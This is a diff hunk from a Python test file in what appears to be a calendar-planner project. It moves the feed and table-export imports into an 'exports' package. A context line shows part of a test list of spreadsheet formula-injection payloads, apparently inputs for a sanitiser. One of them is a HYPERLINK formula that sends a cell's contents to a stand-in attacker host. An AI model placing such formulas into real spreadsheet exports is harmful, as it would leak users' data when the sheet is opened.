@@ -16,8 +16,8 @@ from hypothesis import strategies as st
 
 from conftest import DATA, ROOT
 from planner import load_plan, parse_plan
-from planner.calendars import delegation_feed, full_feed, public_feed
-from planner.tables import FORMULA_START, export_table, is_formula, neutralise
+from planner.exports.ics import delegation_feed, full_feed, public_feed
+from planner.exports.tables import FORMULA_START, export_table, is_formula, neutralise
 from plans import event, plan
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)",
